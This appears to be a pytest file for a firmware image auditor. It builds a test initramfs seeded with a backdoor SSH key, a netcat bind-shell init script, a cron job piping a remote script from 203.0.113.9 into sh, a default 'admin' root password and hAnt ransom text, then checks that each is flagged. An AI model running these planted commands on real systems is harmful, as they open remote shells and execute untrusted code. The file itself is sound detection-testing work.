"""The content audit: each finding names the path inside the image and quotes plain text."""

from __future__ import annotations

from pathlib import Path

import pytest

from attest.image.passwords import md5_crypt
from attest.image.walk import inspect_file
from tests.conftest import skip_unless_ci
from tests.image import builders as b


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[str]]:
    """A cpio initramfs (made with cpio -H newc) holding one of each thing the audit looks for."""
    if b.missing_tools():
        skip_unless_ci("image tools not installed")
    work = tmp_path_factory.mktemp("audit")
    shadow_hash = b.run("openssl", "passwd", "-1", "-salt", "Xy12abcd", "admin").decode().strip()
    src = b.tree(work / "root", {
        "root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
                                     " backdoor@evil\n",
        "bin/busybox": b"\x7fELF busybox",
        "etc/init.d/S99net": "#!/bin/sh\n# nc -l is mentioned in a comment only\nnc -lp 4444 -e /bin/sh &\n",
        "etc/crontabs/root": "*/5 * * * * wget -q -O- http://203.0.113.9/x.sh | sh\n",
        "etc/shadow": f"root:{shadow_hash}:18000:0:99999:7:::\nnobody:*:18000:0:99999:7:::\n",
        "usr/bin/cgminer": b"\x7fELF ... I am hAnt! pay 0.1 BTC ...",
        "etc/init.d/S50clean": "#!/bin/sh\necho starting\n",
    }, modes={"bin/busybox": 0o4755})
    image = b.cpio_newc(src, work / "initramfs.cpio")
    found: dict[str, list[str]] = {}
    for f in inspect_file(image).findings:
        found.setdefault(f.code, []).append(f"{f.path}: {f.detail}")
    return found


def test_md5_crypt_agrees_with_openssl() -> None:
    assert md5_crypt(b"admin", b"Xy12abcd") == b.run("openssl", "passwd", "-1", "-salt", "Xy12abcd",
                                                     "admin").decode().strip()


def test_authorized_keys_with_a_key_is_found(audited: dict[str, list[str]]) -> None:
    [line] = audited["IMAGE_AUTHORIZED_KEYS"]
    assert line.startswith("root/.ssh/authorized_keys: 1 key(s); first: ssh-ed25519") and "backdoor@evil" in line


def test_setuid_file_is_found(audited: dict[str, list[str]]) -> None:
    assert audited["IMAGE_SETUID_FILE"] == ["bin/busybox: setuid (-rwsr-xr-x)"]


def test_startup_listener_is_found_but_not_in_a_comment(audited: dict[str, list[str]]) -> None:
    assert audited["IMAGE_STARTUP_LISTENER"] == ["etc/init.d/S99net: line 3: nc -lp 4444 -e /bin/sh &"]


def test_cron_fetch_and_run_is_found(audited: dict[str, list[str]]) -> None:
    [line] = audited["IMAGE_FETCH_AND_RUN"]
    assert line.startswith("etc/crontabs/root: line 1: */5 * * * * wget -q -O- http://203.0.113.9/x.sh | sh")


def test_vendor_default_password_hash_is_found(audited: dict[str, list[str]]) -> None:
    [line] = audited["IMAGE_DEFAULT_PASSWORD"]
    assert "account root" in line and "Bitmain's factory default ('admin')" in line


def test_hant_ransom_text_is_found(audited: dict[str, list[str]]) -> None:
    [line] = audited["BACKDOOR_INDICATOR"]
    assert line.startswith("usr/bin/cgminer: hant: ") and "I am hAnt!" in line


def test_clean_script_gives_no_finding(audited: dict[str, list[str]]) -> None:
    assert not any("S50clean" in line for lines in audited.values() for line in lines)


def test_indicator_list_is_data_not_code(tmp_path: Path) -> None:
    from attest.indicators import parse_indicators

    custom = parse_indicators(b'[{"id": "custom", "patterns": ["evil-phone-home.example"], '
                              b'"description": "test", "reference": "test"}]')
    target = tmp_path / "blob"
    target.write_bytes(b"xx evil-phone-home.example yy")
    assert [f.code for f in inspect_file(target, indicators=custom).findings] == ["BACKDOOR_INDICATOR"]
